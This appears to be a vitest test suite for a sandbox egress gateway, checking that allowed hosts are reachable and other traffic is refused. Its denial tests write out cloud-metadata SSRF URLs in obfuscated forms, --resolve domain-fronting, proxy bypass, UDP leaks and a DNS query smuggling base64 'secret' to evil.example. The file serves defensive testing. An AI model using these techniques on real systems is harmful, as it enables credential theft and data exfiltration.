import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { createServer, type AddressInfo, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { once } from "node:events";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createCertificates } from "../../simulator/cloud/certificate.ts";
import { openGateway, type Gateway } from "../../src/egress/gateway.ts";
import { parseMirrors } from "../../src/egress/mirrors.ts";
import type { EgressRecord } from "../../src/protocol/egress.ts";
import {
  CAPTURE_NAMESPACE,
  openCaptureNamespace,
  type CaptureNamespace,
} from "../support/capture-namespace.ts";
import { policyOf, type RigOptions } from "../support/gateway-rig.ts";
import { allOf, program } from "../support/requirement.ts";

const CLIENTS = allOf(CAPTURE_NAMESPACE, program("curl"), program("python3"));
const NAME = "api.service.example";

const servers: Server[] = [];
let directory = "";
let authority = "";
let mirrors = "";

beforeAll(async () => {
  if (!CLIENTS.met) return;
  directory = mkdtempSync(join(tmpdir(), "cattlegrid-clients-"));
  authority = join(directory, "authority.pem");
  const certificates = createCertificates([NAME]);
  writeFileSync(authority, certificates.authority);
  const tls = { key: certificates.privateKey, cert: certificates.certificate };
  const answer = (_request: unknown, response: { end(text: string): void }) =>
    response.end("hello");
  servers.push(createHttpsServer(tls, answer), createHttpServer(answer));
  servers.push(createServer((socket) => socket.end("SSH-2.0-Test\r\n")));
  const ports = await Promise.all(servers.map(listen));
  mirrors = [443, 80, 22].map((port, at) => `${NAME}:${port}=127.0.0.1:${ports[at]}`).join(",");
});

afterAll(async () => {
  for (const server of servers) await new Promise((resolve) => server.close(resolve));
  if (directory !== "") rmSync(directory, { recursive: true });
});

async function listen(server: Server): Promise<number> {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return (server.address() as AddressInfo).port;
}

let namespace: CaptureNamespace;
let gateway: Gateway | undefined;
const records: EgressRecord[] = [];

function open(options: RigOptions): void {
  gateway = openGateway({
    sandboxId: "s-clients",
    sandboxName: "my-sandbox",
    sockets: namespace.sockets,
    policy: policyOf(options),
    mirrors: parseMirrors(mirrors),
    record: (record) => records.push(record),
  });
}

beforeEach(() => {
  records.length = 0;
  if (CLIENTS.met) namespace = openCaptureNamespace();
});

afterEach(async () => {
  await gateway?.close();
  gateway = undefined;
  if (CLIENTS.met) namespace.close();
});

/** `curl` gives up after ten seconds with status 28, which no refusal may lead to. */
async function curl(...words: string[]): Promise<{ code: number; stdout: string }> {
  const argv = ["curl", "-sS", "--max-time", "10", "--cacert", authority, ...words];
  return namespace.run(argv);
}

function python(source: string): ReturnType<CaptureNamespace["run"]> {
  return namespace.run(["/usr/bin/env", "python3", "-c", source]);
}

function connections(): Partial<EgressRecord>[] {
  return records.filter((record) => record.kind === "connect");
}

const ALLOWED = { allow: [NAME, `${NAME}:80`, `${NAME}:22`] };

describe.skipIf(!CLIENTS.met)(CLIENTS.title("an allowed name is reached"), () => {
  test.each([`https://${NAME}/`, `http://${NAME}/`, `https://API.Service.Example./`])(
    "by curl at %s",
    async (url) => {
      open(ALLOWED);
      expect(await curl(url)).toMatchObject({ code: 0, stdout: "hello" });
      expect(connections()).toMatchObject([{ action: "allow", name: NAME }]);
    },
  );

  test("by Node", async () => {
    open(ALLOWED);
    const source = `fetch("https://${NAME}/").then((r) => r.text()).then(console.log)`;
    const environment = { NODE_EXTRA_CA_CERTS: authority };
    const result = await namespace.run([process.execPath, "-e", source], { environment });
    expect(result).toMatchObject({ code: 0, stdout: "hello\n" });
  });

  test("by Python", async () => {
    open(ALLOWED);
    const source = `
import ssl, urllib.request
context = ssl.create_default_context(cafile="${authority}")
print(urllib.request.urlopen("https://${NAME}/", context=context).read().decode())`;
    expect(await python(source)).toMatchObject({ code: 0, stdout: "hello\n" });
  });

  test("by a client whose server speaks first", async () => {
    open(ALLOWED);
    const source = `
import socket
print(socket.create_connection(("${NAME}", 22), 10).recv(100))`;
    expect((await python(source)).stdout).toContain("SSH-2.0-Test");
    expect(connections()).toMatchObject([{ protocol: "opaque", port: 22 }]);
  });

  test.each(["8.8.8.8", "2001:4860:4860::8888", "127.0.0.1"])(
    "whatever resolver is configured, here %s",
    async (nameserver) => {
      open(ALLOWED);
      const { stdout } = await namespace.run(["getent", "ahosts", NAME], { nameserver });
      expect(stdout).toContain("198.18.0.1");
    },
  );

  test("and a server on the sandbox's own loopback is nobody's business", async () => {
    open({});
    const source = `
import http.server, threading, urllib.request
server = http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
try: urllib.request.urlopen("http://127.0.0.1:%d/" % server.server_port)
except urllib.error.HTTPError as error: print(error.code)`;
    expect(await python(source)).toMatchObject({ stdout: "501\n" });
    expect(records).toEqual([]);
  });
});

describe.skipIf(!CLIENTS.met)(CLIENTS.title("nothing else is"), () => {
  test.each([
    ["a name without a rule", "https://other.example/", { name: "other.example", kind: "dns" }],
    ["a public address", "https://93.184.215.14/", { address: "93.184.215.14", port: 443 }],
    ["an IPv6 address", "https://[2606:4700::1]/", { address: "2606:4700::1", port: 443 }],
    ["a mapped address", "https://[::ffff:93.184.215.14]/", { address: "93.184.215.14" }],
    ["another port", `https://${NAME}:8443/`, { name: NAME, port: 8443 }],
    ["metadata", "http://169.254.169.254/latest", { address: "169.254.169.254", port: 80 }],
    ["metadata, as one number", "http://2852039166/", { address: "169.254.169.254" }],
    ["metadata, in hexadecimal", "http://0xa9.0xfe.0xa9.0xfe/", { address: "169.254.169.254" }],
    ["metadata over IPv6", "http://[fd00:ec2::254]/", { address: "fd00:ec2::254" }],
    ["a host on the local network", "https://192.168.1.1/", { address: "192.168.1.1" }],
    ["DNS over TLS", "https://1.1.1.1:853/", { address: "1.1.1.1", port: 853 }],
    ["DNS over TCP", "https://8.8.8.8:53/", { address: "8.8.8.8", reasonCode: "dns-over-tcp" }],
  ])("not %s", async (_what, url, expected) => {
    open(ALLOWED);
    const { code, stdout } = await curl("--fail", url);
    expect([0, 28]).not.toContain(code);
    expect(stdout).not.toContain("hello");
    expect(records).toContainEqual(expect.objectContaining({ action: "deny", ...expected }));
  });

  test("not an address that the client maps the allowed name to", async () => {
    open(ALLOWED);
    const mapped = ["--resolve", `${NAME}:443:93.184.215.14`];
    expect((await curl(...mapped, `https://${NAME}/`)).stdout).toBe("");
    expect(connections()).toMatchObject([{ action: "deny", address: "93.184.215.14" }]);
  });

  test("not another name on the allowed one's address", async () => {
    open(ALLOWED);
    const { stdout } = await namespace.run(["getent", "ahosts", NAME]);
    const address = stdout.split(" ")[0] ?? "";
    const fronted = ["--resolve", `other.example:443:${address}`, "https://other.example/"];
    expect((await curl(...fronted)).stdout).toBe("");
    expect(connections()).toMatchObject([{ action: "deny", reasonCode: "server-name-differs" }]);
  });

  test("not a proxy that the environment names, nor a route around it", async () => {
    open(ALLOWED);
    const environment = { https_proxy: "http://10.0.0.1:3128", NO_PROXY: "" };
    const argv = ["curl", "-sS", "--max-time", "10", "--cacert", authority, `https://${NAME}/`];
    expect((await namespace.run(argv, { environment })).code).not.toBe(0);
    expect(connections()).toMatchObject([{ action: "deny", address: "10.0.0.1", port: 3128 }]);
    const ignored = ["--noproxy", "*", `https://${NAME}/`];
    expect((await curl(...ignored)).stdout).toBe("hello");
  });

  test("not the gateway by its own address", async () => {
    open({ preset: "open" });
    expect((await curl("http://127.0.0.1:53/")).code).not.toBe(0);
    expect(connections()).toMatchObject([{ reasonCode: "direct-to-gateway" }]);
  });

  test("not by UDP, which is refused at once and not dropped", async () => {
    open({ preset: "open" });
    const source = `
import socket
for family, address in [(2, ("8.8.8.8", 123)), (2, ("1.1.1.1", 443)), (2, ("224.0.0.251", 5353)),
                        (10, ("2606:4700::1", 443)), (10, ("ff02::fb", 5353))]:
    try: print(socket.socket(family, socket.SOCK_DGRAM).sendto(b"secret", address))
    except OSError as error: print(error.errno)`;
    const { stdout } = await python(source);
    expect(stdout.trim().split("\n")).not.toContain("6");
    expect(stdout.trim().split("\n")).toHaveLength(5);
  });

  test("not by DNS, whose queries go nowhere", async () => {
    open(ALLOWED);
    const source = `
import socket, struct
def ask(server, name, kind):
    question = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
    s.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + question + struct.pack(">2H", kind, 1), (server, 53))
    return s.recvfrom(600)[0][3] & 15
print([ask("8.8.8.8", "c2VjcmV0.evil.example", kind) for kind in (1, 16, 10, 15, 28, 65)])
print([ask("9.9.9.9", "${NAME}", kind) for kind in (1, 28, 65, 16)])`;
    expect((await python(source)).stdout).toBe("[5, 5, 5, 5, 5, 5]\n[0, 0, 0, 5]\n");
    const denied = records.filter((record) => record.name === "c2VjcmV0.evil.example");
    expect(denied.map((record) => record.action)).toEqual(Array.from({ length: 6 }, () => "deny"));
  });
});
